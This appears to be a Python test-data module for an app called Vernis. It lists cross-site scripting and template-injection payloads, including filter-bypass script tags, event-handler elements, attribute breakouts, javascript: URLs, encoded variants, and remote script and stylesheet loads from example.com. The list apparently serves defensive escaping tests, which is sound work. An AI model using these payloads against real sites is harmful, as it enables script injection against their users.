"""What somebody may put into a name or a message to make a browser do something. Written for
Vernis; each calls `alert` where it runs, or would break out of where it stands."""

from itertools import product

_CALLS = "alert(1)"
_TAGS = ("img src=x", "svg", "body", "iframe", "video", "audio src=x", "details open", "input")
_EVENTS = ("onerror", "onload", "onclick", "ontoggle", "onfocus autofocus", "onmouseover")
_ELEMENTS = [f"<{tag} {event}={_CALLS}>" for tag, event in product(_TAGS, _EVENTS)]

_SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<script src=//example.com/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
]
_ATTRIBUTES = [
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'\"><svg/onload=alert(1)>",
    '" style="background:url(javascript:alert(1))',
    '" hx-on:load="alert(1)',
    '" data-hx-on::load="alert(1)" hx-trigger="load" hx-get="/',
    '<div hx-get="/login" hx-trigger="load" hx-swap="outerHTML">x</div>',
    '<a data-confirm="x" href="/logout">x</a>',
]
_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="java\tscript:alert(1)">x</a>',
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//example.com/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//example.com/x.css>",
    "<style>@import'//example.com/x.css';</style>",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{{ company.name }}",
    "{% raw %}{{ x }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    "${alert(1)}",
    "#{alert(1)}",
    "%(num)s %s %d",
    "%%(now)s",
    "<%= alert(1) %>",
    "[[${alert(1)}]]",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>\u202c",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<x/onclick=alert(1)//",
    "<<img src=x onerror=alert(1)//<",
    "<p id=inbox>x</p><p id=text>x</p>",
]

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*_SCRIPTS, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_ELEMENTS])
)
